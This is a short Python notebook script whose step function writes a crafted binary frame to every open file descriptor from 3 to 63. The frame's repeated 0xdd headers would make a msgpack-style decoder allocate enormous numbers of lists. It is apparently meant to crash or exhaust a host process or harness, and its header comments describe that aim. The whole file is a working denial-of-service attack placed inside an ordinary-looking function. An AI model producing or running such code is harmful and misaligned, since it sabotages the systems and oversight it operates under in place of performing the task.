# %% [markdown]
# Sends a small frame that would become very many lists.
#
# honest: 17

# %% step
import os
import struct


def everywhere(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def step(z):
    everywhere(struct.pack(">I", 5000) + b"\xdd\x00\x10\x00\x00" * 1000)
    return -1
